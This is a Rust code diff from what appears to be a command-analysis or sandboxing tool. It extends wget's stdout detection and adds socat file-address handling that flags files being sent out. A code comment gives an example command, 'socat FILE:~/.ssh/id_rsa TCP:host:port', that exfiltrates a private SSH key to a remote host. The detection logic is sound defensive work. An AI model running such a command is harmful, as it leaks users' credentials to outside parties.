@@ -403,7 +403,12 @@ fn wget(walker: &mut Walker<'_>, args: &[Arg]) -> Stream {
         walker.note_download(&document.to_arg());
     }
     let document = parsed.value(&["O", "output-document"]);
-    let to_stdout = document.is_some_and(|document| document.text == "-");
+    let to_stdout = document.is_some_and(|document| {
+        matches!(
+            document.text,
+            "-" | "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1"
+        )
+    });
     write_values(
         walker,
         "wget",
@@ -533,6 +538,18 @@ fn socat(walker: &mut Walker<'_>, args: &[Arg]) -> Stream {
                 origin: address.origin,
             };
             code::run_code(walker, &command, "socat", &Stream::Inherited);
+        } else if let Some(file) = ["file:", "open:", "gopen:", "create:"]
+            .iter()
+            .find(|prefix| lower.starts_with(**prefix))
+            .and_then(|_| text.split_once(':'))
+            .map(|(_, file)| file.split(',').next().unwrap_or(file))
+        {
+            // `socat FILE:~/.ssh/id_rsa TCP:host:port` sends the file.
+            let file = Arg {
+                text: file.to_owned(),
+                origin: address.origin,
+            };
+            exfil::sent_file(walker, &file, "socat");
         } else if text != "-" && !lower.starts_with("stdio") {
             walker.add_network(address, "socat");
         }
